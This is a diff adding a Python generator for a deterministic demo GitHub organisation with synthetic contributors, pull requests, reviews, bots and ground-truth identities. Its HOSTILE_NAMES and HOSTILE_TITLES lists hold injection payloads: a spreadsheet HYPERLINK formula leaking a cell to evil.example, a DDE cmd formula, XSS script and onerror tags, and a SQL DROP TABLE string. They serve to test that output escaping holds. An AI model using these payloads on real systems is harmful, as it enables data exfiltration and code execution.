@@ -1,0 +1,954 @@
+"""The demo world: a seeded, deterministic company org, "acme-ai".
+
+It is what a new user sees on a fresh machine, and a world whose true answers are
+known (which identities are one person, who is a bot, who works for the company), so
+identity resolution and scoring can be measured against it.
+
+The world is built from people with archetypes (core employees, community
+maintainers, reviewers who rarely commit, drive-by contributors, rising newcomers,
+issue reporters, former employees, bots) and a heavy-tailed activity rate each. It
+produces the same records a real source does (:mod:`talent.model`) and is written
+through the same ``save_*`` functions.
+"""
+
+from __future__ import annotations
+
+import hashlib
+import math
+import random
+import unicodedata
+from collections.abc import Sequence
+from dataclasses import dataclass, field
+from datetime import UTC, datetime, timedelta
+
+from sqlalchemy import Engine
+
+from talent.model import (
+    Activity,
+    ActivityKind,
+    CommitFile,
+    Identity,
+    IdentitySource,
+    Origin,
+    Repo,
+)
+from talent.store import (
+    save_activities,
+    save_commit_files,
+    save_identities,
+    save_repos,
+    set_meta,
+)
+
+ORG = "acme-ai"
+COMPANY_DOMAIN = "acme-ai.com"
+# A fixed end date keeps the world identical whenever it is generated.
+END = datetime(2026, 10, 31, 18, 0, tzinfo=UTC)
+START = END - timedelta(days=3 * 365)
+
+SIZES = {"small": 150, "medium": 600, "large": 1500}
+
+# (name, description, {area: file extension})
+REPOS: list[tuple[str, str, dict[str, str]]] = [
+    (
+        "vision-foundation",
+        "Acme's open vision foundation model: weights, training and eval",
+        {
+            "models": ".py",
+            "training": ".py",
+            "data": ".py",
+            "eval": ".py",
+            "docs": ".md",
+            "tests": ".py",
+        },
+    ),
+    (
+        "med-llm",
+        "A medical-domain LLM fine-tuned from open weights, with RLHF recipes",
+        {
+            "modeling": ".py",
+            "rlhf": ".py",
+            "data": ".py",
+            "eval": ".py",
+            "docs": ".md",
+            "tests": ".py",
+        },
+    ),
+    (
+        "speech-asr",
+        "Streaming speech recognition model and recipes",
+        {
+            "models": ".py",
+            "recipes": ".sh",
+            "data": ".py",
+            "decoding": ".py",
+            "docs": ".md",
+            "tests": ".py",
+        },
+    ),
+    (
+        "acme-train",
+        "Distributed training library used by every Acme model",
+        {
+            "distributed": ".py",
+            "optim": ".py",
+            "checkpoint": ".py",
+            "data": ".py",
+            "docs": ".md",
+            "tests": ".py",
+            ".github/workflows": ".yml",
+        },
+    ),
+    (
+        "acme-serve",
+        "Inference server: batching, quantisation and CUDA kernels",
+        {
+            "server": ".py",
+            "kernels/cuda": ".cu",
+            "quantization": ".py",
+            "scheduler": ".py",
+            "docs": ".md",
+            "tests": ".py",
+        },
+    ),
+    (
+        "acme-eval",
+        "Evaluation harness and benchmarks for Acme models",
+        {"benchmarks": ".py", "metrics": ".py", "harness": ".py", "docs": ".md", "tests": ".py"},
+    ),
+    (
+        "tokenizers",
+        "Fast tokenizers (Rust core, Python bindings)",
+        {"src": ".rs", "bindings/python": ".py", "docs": ".md", "tests": ".rs"},
+    ),
+    (
+        "acme-kernels",
+        "Fused attention and GEMM kernels for training and inference",
+        {
+            "csrc/attention": ".cu",
+            "csrc/gemm": ".cu",
+            "python": ".py",
+            "benchmarks": ".py",
+            "tests": ".py",
+        },
+    ),
+]
+
+FIRST = [
+    "Ada",
+    "Alan",
+    "Grace",
+    "Linus",
+    "Margaret",
+    "Dennis",
+    "Barbara",
+    "Ken",
+    "Frances",
+    "Edsger",
+    "Radia",
+    "Guido",
+    "Anita",
+    "Yukihiro",
+    "Hedy",
+    "Donald",
+    "Karen",
+    "Tim",
+    "Sophie",
+    "Omar",
+    "Priya",
+    "Wei",
+    "Fatima",
+    "Carlos",
+    "Ingrid",
+    "Kwame",
+    "Mei",
+    "Noah",
+    "Aisha",
+    "Mateo",
+    "Elena",
+    "Ravi",
+    "Chloé",
+    "José",
+    "Zoë",
+    "Łukasz",
+    "Søren",
+    "Ngozi",
+    "Björn",
+    "Anaïs",
+    "Dmitri",
+    "Yuki",
+    "Ayşe",
+    "Jürgen",
+    "Renée",
+    "Thanh",
+    "Olusegun",
+    "Ines",
+    "Hamid",
+    "Lucía",
+]
+LAST = [
+    "Lovelace",
+    "Turing",
+    "Hopper",
+    "Torvalds",
+    "Hamilton",
+    "Ritchie",
+    "Liskov",
+    "Thompson",
+    "Allen",
+    "Dijkstra",
+    "Perlman",
+    "van Rossum",
+    "Borg",
+    "Matsumoto",
+    "Lamarr",
+    "Knuth",
+    "Spärck Jones",
+    "Berners-Lee",
+    "Wilson",
+    "Haddad",
+    "Sharma",
+    "Zhang",
+    "Khan",
+    "García",
+    "Larsen",
+    "Mensah",
+    "Chen",
+    "Fischer",
+    "Okafor",
+    "Rossi",
+    "Petrova",
+    "Iyer",
+    "Dubois",
+    "Álvarez",
+    "Müller",
+    "Wróbel",
+    "Kierkegaard",
+    "Eze",
+    "Nguyễn",
+    "Søndergaard",
+    "Ivanov",
+    "Tanaka",
+    "Yılmaz",
+    "Schäfer",
+    "Côté",
+    "Adeyemi",
+    "Moreau",
+    "Farahani",
+    "Fernández",
+    "Kowalski",
+]
+CJK_NAMES = ["李伟", "王芳", "张敏", "刘洋", "陈静", "佐藤健", "김민준"]
+
+# Strings a hostile contributor could choose, to prove every output stays safe.
+HOSTILE_NAMES = [
+    '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
+    "+1 Intern",
+    "-Dash Contributor",
+    "@SUM(A1:A9)",
+    "<script>alert('x')</script>",
+    "\tTabby Tabs",
+    'Robert"); DROP TABLE people;--',
+]
+HOSTILE_TITLES = [
+    "=cmd|' /C calc'!A0",
+    "+SUM(1,2) fix",
+    "-2+3 off-by-one",
+    "@lookup broken",
+    "<img src=x onerror=alert(1)> render fix",
+    '=HYPERLINK("http://evil.example","docs")',
+]
+
+PR_VERBS = [
+    "Fix",
+    "Add",
+    "Speed up",
+    "Refactor",
+    "Support",
+    "Document",
+    "Test",
+    "Remove",
+    "Improve",
+    "Handle",
+]
+PR_TOPICS = [
+    "flash attention on sm90",
+    "fp8 quantization",
+    "LoRA adapters",
+    "tokenizer byte fallback",
+    "distributed checkpoint resume",
+    "RLHF reward model loss",
+    "data loader prefetch",
+    "KV cache eviction",
+    "beam search decoding",
+    "mixed precision overflow",
+    "eval harness for MMLU",
+    "CUDA graph capture",
+    "FSDP wrapping policy",
+    "streaming ASR latency",
+    "int4 GEMM kernel",
+    "continuous batching",
+    "vision transformer patch embed",
+    "gradient accumulation",
+    "docs for fine-tuning",
+    "CI cache for wheels",
+    "ONNX export",
+    "Triton kernel autotune",
+    "speculative decoding",
+    "dataset dedup",
+    "benchmark regression",
+]
+ISSUE_TOPICS = [
+    "OOM when",
+    "NaN loss with",
+    "Wrong output for",
+    "Crash in",
+    "Slow",
+    "Feature request:",
+    "Docs unclear about",
+    "Install fails for",
+]
+
+
+@dataclass(frozen=True)
+class Archetype:
+    name: str
+    share: float  # of the human population
+    prs: float  # mean pull requests over the person's active span
+    issues: float
+    comments: float
+    review_weight: float  # chance to be picked as a reviewer, relative
+    merge_rights: bool
+    merge_quality: float  # chance a pull request is merged
+    employee: bool
+    span: tuple[float, float]  # active span as fractions of the world's 3 years
+    emails: tuple[int, int]  # how many git emails
+
+
+ARCHETYPES = [
+    Archetype("employee_core", 0.04, 60, 6, 40, 8.0, True, 0.95, True, (0.0, 1.0), (2, 3)),
+    Archetype("employee", 0.08, 18, 3, 10, 2.0, True, 0.9, True, (0.1, 1.0), (1, 2)),
+    Archetype("former_employee", 0.02, 25, 3, 10, 3.0, True, 0.9, True, (0.0, 0.45), (2, 2)),
+    Archetype("community_core", 0.03, 45, 8, 45, 6.0, True, 0.9, False, (0.05, 1.0), (2, 3)),
+    Archetype("community", 0.15, 8, 3, 6, 0.8, False, 0.75, False, (0.2, 0.9), (1, 2)),
+    Archetype("reviewer", 0.02, 1.5, 2, 50, 7.0, False, 0.8, False, (0.1, 1.0), (1, 1)),
+    Archetype("rising", 0.04, 14, 3, 10, 1.0, False, 0.85, False, (0.83, 1.0), (1, 1)),
+    Archetype("issue_reporter", 0.20, 0.2, 3, 4, 0.0, False, 0.5, False, (0.0, 1.0), (0, 1)),
+    Archetype("drive_by", 0.42, 1.2, 0.6, 0.8, 0.0, False, 0.55, False, (0.0, 1.0), (1, 1)),
+]
+
+BOTS = [
+    # login, github id, git name, kind of work
+    ("dependabot[bot]", 49699333, "dependabot[bot]", "deps"),
+    ("github-actions[bot]", 41898282, "github-actions[bot]", "commits"),
+    ("pre-commit-ci[bot]", 66853113, "pre-commit-ci[bot]", "precommit"),
+    ("codecov-commenter", 65553080, "Codecov", "comments"),
+    ("acme-release-bot", 90000001, "Acme Release Bot", "release"),
+]
+
+
+@dataclass
+class DemoPerson:
+    index: int
+    name: str
+    login: str
+    github_id: int
+    archetype: str
+    employee: bool
+    is_bot: bool
+    start: datetime
+    end: datetime
+    git_identities: list[Identity] = field(default_factory=list)
+    account: Identity | None = None
+    repos: list[str] = field(default_factory=list)
+
+
+@dataclass
+class DemoWorld:
+    """Everything the generator made, and the truth behind it."""
+
+    repos: list[Repo]
+    identities: list[Identity]
+    activities: list[Activity]
+    commit_files: list[CommitFile]
+    people: list[DemoPerson]
+    truth: dict[str, int]  # identity key -> index of the true person
+
+
+def generate_demo(seed: int = 7, size: str = "medium") -> DemoWorld:
+    """Build the demo world; the same ``seed`` and ``size`` give the same world."""
+    if size not in SIZES:
+        raise ValueError(f"unknown size {size!r}; choose one of {', '.join(SIZES)}")
+    return _Generator(random.Random(seed), SIZES[size]).build()
+
+
+def save_demo(engine: Engine, world: DemoWorld) -> dict[str, int]:
+    """Write a demo world through the store's ``save_*`` functions; returns row counts."""
+    counts = {
+        "repos": save_repos(engine, world.repos),
+        "identities": save_identities(engine, world.identities),
+        "activities": save_activities(engine, world.activities),
+        "commit_files": save_commit_files(engine, world.commit_files),
+    }
+    set_meta(engine, "demo_org", ORG)
+    set_meta(engine, "company_domains", COMPANY_DOMAIN)
+    set_meta(engine, "company_orgs", ORG)
+    return counts
+
+
+def _slug(text: str) -> str:
+    folded = unicodedata.normalize("NFKD", text).encode("ascii", "ignore").decode()
+    out = "".join(ch.lower() if ch.isalnum() else "-" for ch in folded).strip("-")
+    while "--" in out:
+        out = out.replace("--", "-")
+    return out
+
+
+class _Generator:
+    def __init__(self, rng: random.Random, n_people: int):
+        self.rng = rng
+        self.n_people = n_people
+        self.span = (END - START).total_seconds()
+        self.repos = [
+            Repo(f"{ORG}/{name}", Origin.DEMO, desc, f"https://github.com/{ORG}/{name}", "main")
+            for name, desc, _ in REPOS
+        ]
+        self.areas = {f"{ORG}/{name}": areas for name, _, areas in REPOS}
+        self.files = {repo: self._files_of(repo) for repo in self.areas}
+        self.people: list[DemoPerson] = []
+        self.activities: list[Activity] = []
+        self.commit_files: list[CommitFile] = []
+        self.next_number = {r.full_name: 1 for r in self.repos}
+        self.next_id = 10_000_000
+        self.maintainers: dict[str, list[DemoPerson]] = {r.full_name: [] for r in self.repos}
+        self.reviewers: dict[str, list[tuple[DemoPerson, float]]] = {
+            r.full_name: [] for r in self.repos
+        }
+
+    # --- people --------------------------------------------------------------------
+
+    def _files_of(self, repo: str) -> list[str]:
+        files = []
+        for area, ext in self.areas[repo].items():
+            for i in range(self.rng.randint(6, 14)):
+                stem = self.rng.choice(
+                    [
+                        "core",
+                        "utils",
+                        "layers",
+                        "api",
+                        "config",
+                        "io",
+                        "ops",
+                        "runner",
+                        "model",
+                        "loader",
+                    ]
+                )
+                files.append(f"{area}/{stem}_{i}{ext}")
+        return files
+
+    def _name(self, index: int) -> str:
+        roll = self.rng.random()
+        if index % 97 == 13:
+            return HOSTILE_NAMES[(index // 97) % len(HOSTILE_NAMES)]
+        if roll < 0.05:
+            return self.rng.choice(CJK_NAMES)
+        return f"{self.rng.choice(FIRST)} {self.rng.choice(LAST)}"
+
+    def _time(self, lo: float, hi: float) -> datetime:
+        return START + timedelta(seconds=self.span * self.rng.uniform(lo, hi))
+
+    def _make_people(self) -> None:
+        taken: set[str] = set()
+        index = 0
+        for arche in ARCHETYPES:
+            count = max(2, round(arche.share * self.n_people))
+            for _ in range(count):
+                name = self._name(index)
+                base = _slug(name) or f"user{index}"
+                login = base if base not in taken else f"{base}{index}"
+                # Some logins are nothing like the name, as on GitHub.
+                if self.rng.random() < 0.3:
+                    login = f"{base.split('-')[0]}{self.rng.randint(1, 999)}"
+                while login in taken:
+                    login += "x"
+                taken.add(login)
+                lo, hi = arche.span
+                start = self._time(lo, lo + (hi - lo) * 0.35)
+                end = self._time(
+                    max(lo + (hi - lo) * 0.6, (start - START).total_seconds() / self.span + 0.02),
+                    hi,
+                )
+                person = DemoPerson(
+                    index,
+                    name,
+                    login,
+                    1_000_000 + index * 7,
+                    arche.name,
+                    arche.employee,
+                    False,
+                    start,
+                    end,
+                )
+                self._identities_of(person, arche)
+                self._affinities(person)
+                self.people.append(person)
+                index += 1
+        for login, gid, git_name, _work in BOTS:
+            person = DemoPerson(index, git_name, login, gid, "bot", False, True, START, END)
+            person.account = Identity(
+                IdentitySource.GITHUB,
+                name="",
+                login=login,
+                github_id=gid,
+                type="Bot" if login.endswith("]") else "User",
+            )
+            email = f"{gid}+{login}@users.noreply.github.com"
+            person.git_identities = [
+                Identity(IdentitySource.GIT, name=git_name, email=email, login=login)
+            ]
+            person.repos = [r.full_name for r in self.repos]
+            self.people.append(person)
+            index += 1
+
+    def _identities_of(self, person: DemoPerson, arche: Archetype) -> None:
+        # A profile name is shown on GitHub; about a fifth of accounts have none.
+        profile_name = person.name if self.rng.random() < 0.8 else ""
+        person.account = Identity(
+            IdentitySource.GITHUB,
+            name=profile_name,
+            login=person.login,
+            github_id=person.github_id,
+            type="User",
+        )
+        slug = _slug(person.name) or person.login
+        first, _, last = slug.partition("-")
+        emails = []
+        if arche.employee:
+            emails.append(f"{first}.{last or 'x'}@{COMPANY_DOMAIN}")
+        personal = self.rng.choice(
+            [
+                "gmail.com",
+                "outlook.com",
+                "proton.me",
+                "fastmail.com",
+                "posteo.de",
+                "163.com",
+                "uni-heidelberg.de",
+            ]
+        )
+        emails.append(f"{slug.replace('-', '.')}@{personal}")
+        emails.append(f"{person.github_id}+{person.login}@users.noreply.github.com")
+        lo, hi = arche.emails
+        count = self.rng.randint(lo, hi)
+        chosen = emails[:count] if arche.employee else emails[-count:] if count else []
+        for i, email in enumerate(chosen):
+            # The same person writes their name differently on different machines.
+            name = person.name
+            if i == 1 and self.rng.random() < 0.3:
+                name = person.name.lower()
+            # The commit API links most addresses to the account, not all of them.
+            linked = "noreply" in email or self.rng.random() < 0.85
+            person.git_identities.append(
+                Identity(
+                    IdentitySource.GIT,
+                    name=name,
+                    email=email,
+                    login=person.login if linked else None,
+                )
+            )
+
+    def _affinities(self, person: DemoPerson) -> None:
+        names = [r.full_name for r in self.repos]
+        count = 1 + int(self.rng.random() < 0.35) + int(self.rng.random() < 0.15)
+        if person.archetype in ("employee_core", "community_core"):
+            count += 1
+        weights = [1.0 / (i + 1) for i in range(len(names))]
+        chosen: list[str] = []
+        while len(chosen) < count:
+            pick = self.rng.choices(names, weights)[0]
+            if pick not in chosen:
+                chosen.append(pick)
+        person.repos = chosen
+
+    def _index_roles(self) -> None:
+        arche = {a.name: a for a in ARCHETYPES}
+        for person in self.people:
+            if person.is_bot:
+                continue
+            a = arche[person.archetype]
+            for repo in person.repos:
+                if a.merge_rights:
+                    self.maintainers[repo].append(person)
+                if a.review_weight > 0:
+                    self.reviewers[repo].append((person, a.review_weight))
+        for repo, people in self.maintainers.items():
+            if not people:  # every repository has someone holding the merge button
+                core = [p for p in self.people if p.archetype == "employee_core"]
+                position = sorted(self.maintainers).index(repo)
+                self.maintainers[repo].append(core[position % len(core)])
+
+    # --- activity ------------------------------------------------------------------
+
+    def _rate(self, mean: float) -> int:
+        if mean <= 0:
+            return 0
+        # Lognormal with sigma 1: the heavy tail of open-source activity.
+        value = mean * math.exp(self.rng.gauss(0, 1.0) - 0.5)
+        return int(value) + int(self.rng.random() < value - int(value))
+
+    def _new_id(self) -> int:
+        self.next_id += self.rng.randint(1, 50)
+        return self.next_id
+
+    def _add(
+        self, kind: ActivityKind, repo: str, actor: Identity, when: datetime, ref: str, **extra
+    ) -> None:
+        key = f"{kind}:{repo}:{ref}"
+        self.activities.append(
+            Activity(key=key, repo=repo, kind=kind, actor=actor.key, occurred_at=when, **extra)
+        )
+
+    def _active_in(self, person: DemoPerson, when: datetime) -> bool:
+        return person.start <= when <= person.end + timedelta(days=30)
+
+    def _pick_other(
+        self, pool: Sequence[tuple[DemoPerson, float]], exclude: DemoPerson, when: datetime
+    ) -> DemoPerson | None:
+        options = [(p, w) for p, w in pool if p is not exclude and self._active_in(p, when)]
+        if not options:
+            return None
+        return self.rng.choices([p for p, _ in options], [w for _, w in options])[0]
+
+    def _title(self) -> str:
+        if self.rng.random() < 0.01:
+            return self.rng.choice(HOSTILE_TITLES)
+        return f"{self.rng.choice(PR_VERBS)} {self.rng.choice(PR_TOPICS)}"
+
+    def _commit(
+        self,
+        person: DemoPerson,
+        repo: str,
+        when: datetime,
+        title: str,
+        pr_number: int | None = None,
+        co_author: DemoPerson | None = None,
+    ) -> None:
+        ident = self.rng.choice(person.git_identities)
+        sha = hashlib.sha1(f"{repo}:{len(self.activities)}:{title}".encode()).hexdigest()
+        touched = self.rng.sample(self.files[repo], k=min(len(self.files[repo]), 1 + self._rate(2)))
+        total = 0
+        for path in touched:
+            binary = path.endswith(".png")
+            adds = None if binary else int(math.exp(self.rng.gauss(2.5, 1.3)))
+            dels = None if binary else int(adds * self.rng.random() * 0.6)
+            total += (adds or 0) + (dels or 0)
+            self.commit_files.append(CommitFile(repo, sha, path, adds, dels))
+        subject = f"{title} (#{pr_number})" if pr_number else title
+        self._add(
+            ActivityKind.COMMIT,
+            repo,
+            ident,
+            when,
+            sha,
+            item=sha,
+            size=total,
+            title=subject,
+            url=f"https://github.com/{repo}/commit/{sha}",
+        )
+        if co_author is not None and co_author.git_identities:
+            co = co_author.git_identities[0]
+            self._add(
+                ActivityKind.CO_AUTHORED,
+                repo,
+                co,
+                when,
+                f"{sha}:{co.key}",
+                item=sha,
+                counterpart=ident.key,
+                title=subject,
+                url=f"https://github.com/{repo}/commit/{sha}",
+            )
+
+    def _pull_request(
+        self, person: DemoPerson, repo: str, when: datetime, title: str, quality: float
+    ) -> None:
+        number = self.next_number[repo]
+        self.next_number[repo] += 1
+        author = person.account
+        ref = f"{repo}#{number}"
+        url = f"https://github.com/{repo}/pull/{number}"
+        self._add(
+            ActivityKind.PR_OPENED, repo, author, when, str(number), item=ref, title=title, url=url
+        )
+        t = when
+        # Reviews: mostly by the repository's maintainers and dedicated reviewers.
+        pool = self.reviewers[repo]
+        for _ in range(self._rate(1.6) if not person.is_bot else int(self.rng.random() < 0.5)):
+            reviewer = self._pick_other(pool, person, t)
+            if reviewer is None:
+                break
+            t = t + timedelta(hours=self.rng.expovariate(1 / 20))
+            state = self.rng.choices(["APPROVED", "CHANGES_REQUESTED", "COMMENTED"], [5, 2, 3])[0]
+            rid = self._new_id()
+            self._add(
+                ActivityKind.REVIEW,
+                repo,
+                reviewer.account,
+                t,
+                f"{number}:{rid}",
+                item=ref,
+                counterpart=author.key,
+                title=title,
+                url=f"{url}#pullrequestreview-{rid}",
+                state=state,
+            )
+            for _ in range(self._rate(1.5)):
+                cid = self._new_id()
+                self._add(
+                    ActivityKind.REVIEW_COMMENT,
+                    repo,
+                    reviewer.account,
+                    t + timedelta(minutes=self.rng.randint(0, 30)),
+                    f"{number}:{cid}",
+                    item=ref,
+                    counterpart=author.key,
+                    title=title,
+                    url=f"{url}#discussion_r{cid}",
+                )
+        # Conversation comments by anyone around.
+        for _ in range(self._rate(0.8)):
+            other = self._pick_other(pool, person, t) if pool else None
+            if other is not None:
+                cid = self._new_id()
+                self._add(
+                    ActivityKind.ISSUE_COMMENT,
+                    repo,
+                    other.account,
+                    t + timedelta(hours=self.rng.randint(1, 48)),
+                    f"{number}:{cid}",
+                    item=ref,
+                    counterpart=author.key,
+                    title=title,
+                    url=f"{url}#issuecomment-{cid}",
+                )
+        if self.rng.random() < quality:
+            merger = self._pick_other([(m, 1.0) for m in self.maintainers[repo]], person, t)
+            if merger is None:
+                return
+            merged_at = t + timedelta(hours=self.rng.expovariate(1 / 30))
+            if merged_at > END:
+                return
+            self._add(
+                ActivityKind.PR_MERGED,
+                repo,
+                author,
+                merged_at,
+                str(number),
+                item=ref,
+                counterpart=merger.account.key,
+                title=title,
+                url=url,
+            )
+            self._add(
+                ActivityKind.PR_MERGED_BY,
+                repo,
+                merger.account,
+                merged_at,
+                str(number),
+                item=ref,
+                counterpart=author.key,
+                title=title,
+                url=url,
+            )
+            # The squash commit on the default branch is authored by the PR author;
+            # a maintainer who pushed fixes to the branch appears as co-author.
+            co = merger if self.rng.random() < 0.15 else None
+            if person.git_identities:
+                self._commit(person, repo, merged_at, title, number, co_author=co)
+
+    def _issue(self, person: DemoPerson, repo: str, when: datetime) -> None:
+        number = self.next_number[repo]
+        self.next_number[repo] += 1
+        ref = f"{repo}#{number}"
+        url = f"https://github.com/{repo}/issues/{number}"
+        title = f"{self.rng.choice(ISSUE_TOPICS)} {self.rng.choice(PR_TOPICS)}"
+        if self.rng.random() < 0.01:
+            title = self.rng.choice(HOSTILE_TITLES)
+        self._add(
+            ActivityKind.ISSUE_OPENED,
+            repo,
+            person.account,
+            when,
+            str(number),
+            item=ref,
+            title=title,
+            url=url,
+        )
+        t = when
+        pool = self.reviewers[repo]
+        for _ in range(self._rate(1.8)):
+            other = self._pick_other(pool, person, t)
+            if other is None:
+                break
+            t = t + timedelta(hours=self.rng.expovariate(1 / 24))
+            cid = self._new_id()
+            self._add(
+                ActivityKind.ISSUE_COMMENT,
+                repo,
+                other.account,
+                t,
+                f"{number}:{cid}",
+                item=ref,
+                counterpart=person.account.key,
+                title=title,
+                url=f"{url}#issuecomment-{cid}",
+            )
+        if self.rng.random() < 0.6:
+            closer = self._pick_other([(m, 1.0) for m in self.maintainers[repo]], person, t)
+            closed_at = t + timedelta(days=self.rng.expovariate(1 / 5))
+            if closer is not None and closed_at <= END:
+                self._add(
+                    ActivityKind.ISSUE_CLOSED_BY,
+                    repo,
+                    closer.account,
+                    closed_at,
+                    str(number),
+                    item=ref,
+                    counterpart=person.account.key,
+                    title=title,
+                    url=url,
+                )
+
+    def _human_activity(self, person: DemoPerson) -> None:
+        arche = next(a for a in ARCHETYPES if a.name == person.archetype)
+        lo = (person.start - START).total_seconds() / self.span
+        hi = (person.end - START).total_seconds() / self.span
+        quality = min(0.98, max(0.2, arche.merge_quality + self.rng.gauss(0, 0.08)))
+        for _ in range(self._rate(arche.prs)):
+            repo = self.rng.choice(person.repos)
+            self._pull_request(person, repo, self._time(lo, hi), self._title(), quality)
+        for _ in range(self._rate(arche.issues)):
+            self._issue(person, self.rng.choice(person.repos), self._time(lo, hi))
+        if arche.employee and person.git_identities:
+            # Staff push small fixes straight to the default branch.
+            for _ in range(self._rate(arche.prs * 0.2)):
+                repo = self.rng.choice(person.repos)
+                self._commit(
+                    person,
+                    repo,
+                    self._time(lo, hi),
+                    f"{self.rng.choice(PR_VERBS)} typo in docs"
+                    if self.rng.random() < 0.3
+                    else self._title(),
+                )
+
+    def _bot_activity(self, person: DemoPerson, work: str) -> None:
+        weeks = int(self.span // (7 * 24 * 3600))
+        for repo in person.repos:
+            if work == "deps":
+                for w in range(0, weeks, 2):
+                    when = START + timedelta(weeks=w, hours=self.rng.randint(0, 100))
+                    pkg = self.rng.choice(
+                        ["torch", "numpy", "transformers", "pydantic", "actions/checkout", "ruff"]
+                    )
+                    title = f"Bump {pkg} from 1.{w % 9}.0 to 1.{w % 9 + 1}.0"
+                    self._pull_request(person, repo, when, title, 0.7)
+            elif work == "commits":
+                for w in range(0, weeks, 3):
+                    when = START + timedelta(weeks=w, hours=self.rng.randint(0, 100))
+                    self._commit(person, repo, when, "chore: update changelog [skip ci]")
+            elif work == "precommit":
+                for w in range(0, weeks, 4):
+                    when = START + timedelta(weeks=w, hours=self.rng.randint(0, 100))
+                    self._pull_request(
+                        person, repo, when, "[pre-commit.ci] pre-commit autoupdate", 0.9
+                    )
+            elif work == "comments":
+                opened = [
+                    a
+                    for a in self.activities
+                    if a.kind == ActivityKind.PR_OPENED and a.repo == repo
+                ]
+                for act in opened[::2]:
+                    cid = self._new_id()
+                    number = act.item.rsplit("#", 1)[1]
+                    self._add(
+                        ActivityKind.ISSUE_COMMENT,
+                        repo,
+                        person.account,
+                        act.occurred_at + timedelta(minutes=5),
+                        f"{number}:{cid}",
+                        item=act.item,
+                        counterpart=act.actor,
+                        title="Codecov Report: coverage 87.5% (+0.1%)",
+                        url=f"{act.url}#issuecomment-{cid}",
+                    )
+            elif work == "release" and repo in (self.repos[0].full_name, self.repos[3].full_name):
+                for m in range(0, 36, 2):
+                    self._commit(
+                        person, repo, START + timedelta(days=30 * m + 3), f"Release v0.{m // 2}.0"
+                    )
+
+    def _shared_machine_commits(self) -> None:
+        # Some staff committed from a shared build box: one identity, several people.
+        ident = Identity(IdentitySource.GIT, name="ubuntu", email="ubuntu@ip-10-0-0-12")
+        staff = [p for p in self.people if p.employee][:4]
+        for person in staff:
+            for _ in range(2):
+                repo = self.rng.choice(person.repos)
+                when = self._time(0.3, 0.6)
+                sha = hashlib.sha1(f"shared:{repo}:{len(self.activities)}".encode()).hexdigest()
+                self._add(
+                    ActivityKind.COMMIT,
+                    repo,
+                    ident,
+                    when,
+                    sha,
+                    item=sha,
+                    size=4,
+                    title="hotfix config",
+                    url=f"https://github.com/{repo}/commit/{sha}",
+                )
+                self.commit_files.append(CommitFile(repo, sha, "deploy/config.yaml", 2, 2))
+        self.shared_identity = ident
+
+    def build(self) -> DemoWorld:
+        self._make_people()
+        self._index_roles()
+        for person in self.people:
+            if not person.is_bot:
+                self._human_activity(person)
+        for person, (_login, _gid, _name, work) in zip(
+            self.people[-len(BOTS) :], BOTS, strict=True
+        ):
+            self._bot_activity(person, work)
+        self._shared_machine_commits()
+
+        identities: dict[str, Identity] = {}
+        truth: dict[str, int] = {}
+        for person in self.people:
+            for ident in [person.account, *person.git_identities]:
+                if ident is not None:
+                    identities[ident.key] = ident
+                    truth[ident.key] = person.index
+        identities[self.shared_identity.key] = self.shared_identity
+        truth[self.shared_identity.key] = -1  # shared: nobody in particular
+        # Acts that would fall after the world's end (a late review) are not kept.
+        activities = sorted(
+            (a for a in self.activities if a.occurred_at <= END),
+            key=lambda a: (a.occurred_at, a.key),
+        )
+        shas = {a.item for a in activities if a.kind == ActivityKind.COMMIT}
+        files = [f for f in self.commit_files if f.sha in shas]
+        used = {a.actor for a in activities} | {a.counterpart for a in activities if a.counterpart}
+        kept = [identities[k] for k in sorted(identities) if k in used]
+        return DemoWorld(
+            self.repos,
+            kept,
+            activities,
+            files,
+            self.people,
+            {k: v for k, v in truth.items() if k in used},
+        )
